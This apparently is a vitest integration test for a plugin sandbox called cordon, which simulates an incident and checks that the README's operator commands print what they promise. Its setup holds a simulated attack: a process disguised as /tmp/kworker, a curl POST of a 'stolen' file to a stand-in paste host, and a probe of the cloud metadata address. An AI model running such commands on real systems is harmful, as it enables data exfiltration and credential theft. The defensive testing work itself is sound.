import { execFileSync, spawn } from 'node:child_process'
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { canRun } from '../kernel/require.ts'
import { TestHost, TREE } from './host.ts'
import { PretendInternet, TEST_ADDRESS } from './internet-kit.ts'
import { compare, walkOf } from './readme-walk.ts'

const WALK = walkOf('incident')
const API = 'api.example.org'
const DROP = 'paste.example.net'
const ADDRESS: Readonly<Record<string, string>> = { [API]: '93.184.215.14', [DROP]: '93.184.215.15' }

describe.skipIf(!canRun('/usr/bin/curl', '/usr/bin/python3'))('the questions of an operator after an incident, as the README answers them', () => {
  const host = new TestHost(24)
  const net = new PretendInternet('incident')
  const env = { PATH: `${TREE}/deploy:/usr/sbin:/usr/bin:/sbin:/bin` }
  let home = ''

  beforeAll(async () => {
    home = mkdtempSync('/var/lib/cordon-incident-')
    const etc = `${host.dir}/etc`
    execFileSync('/bin/cp', ['-a', '/etc', etc])
    rmSync(`${etc}/cordon`, { recursive: true, force: true }) // of the machine that runs the tests
    mkdirSync(`${etc}/cordon/policies`, { recursive: true, mode: 0o755 })
    host.configure({ policies_dir: '/etc/cordon/policies' })
    cpSync(host.configFile, `${etc}/cordon/cordon.yaml`)
    const executable = host.install('mine', 'does-as-told')
    mkdirSync(`${host.dir}/www`)
    writeFileSync(`${host.dir}/www/index.html`, 'hello')
    await net.start({ zone: Object.fromEntries(Object.entries(ADDRESS).map(([name, address]) => [name, { A: [address] }])), ports: [80], mounts: `mount --bind ${etc} /etc; mount --bind "$0" /etc/resolv.conf; mkdir -p /srv/www; mount --bind ${host.dir}/www /srv/www` })
    writeFileSync(`${etc}/cordon/policies/mine.yaml`, `plugin: mine
executable: { path: ${executable} }
tripwires: true
env: { API_TOKEN: t0ken }
egress:
  allow:
    - { host: ${API}, ports: [443], reason: submits URLs }
    - { host: "*.example.net", ports: [443], reason: mirrors }
`)
    await host.start({ prefix: [...net.enter] })
    await host.settled(['mine'], ['running'])
    // Its usual work; then somebody makes it do something else.
    await told(`curl -ksS -m 9 https://${API}/ >/dev/null; echo usual >/data/state`)
    await told(`cp /bin/sleep /tmp/kworker; (exec /tmp/kworker 300 >/dev/null 2>&1 &); echo stolen >/data/.cache; curl -ksS -m 9 https://${DROP}/ -d @/data/.cache >/dev/null; getent hosts "$(echo $BACKUP_URL | cut -d/ -f3)"; curl -sS -m 3 http://169.254.169.254/ ; true`)
    await host.recorded(({ type }) => type === 'tripwire.touched')
  })
  afterAll(async () => {
    try {
      await host.close()
    } finally {
      net.close()
      rmSync(home, { recursive: true, force: true })
    }
  })

  function run(commands: string): Promise<{ status: number; out: string }> {
    const [program = '', ...args] = [...net.enter, '/bin/bash', '-c', `exec 2>&1; cd ${home}\n${commands}`]
    const child = spawn(program, args, { stdio: ['ignore', 'pipe', 'inherit'], env, cwd: '/' })
    let out = ''
    child.stdout.setEncoding('utf8').on('data', (text: string) => { out += text })
    return new Promise((done) => child.once('close', (status) => done({ status: status ?? -1, out })))
  }
  const told = (command: string) => run(`curl -sS --interface ${TEST_ADDRESS} -X POST --data-binary '${command.replaceAll("'", `'\\''`)}' -H 'authorization: Bearer ${host.token()}' http://127.0.0.1:${host.port}/api/x/mine/do`)

  test('each is there, with what it prints', () => {
    expect(WALK.length).toBeGreaterThanOrEqual(13)
    expect(WALK.filter(({ prints }) => prints.length === 0)).toEqual([])
  })

  test.each(WALK.map(({ commands, prints }, at) => ({ at: at + 1, commands, prints })))('$at: $commands', async ({ commands, prints }) => {
    const { out } = await run(commands)
    compare(out, prints)
  })
})
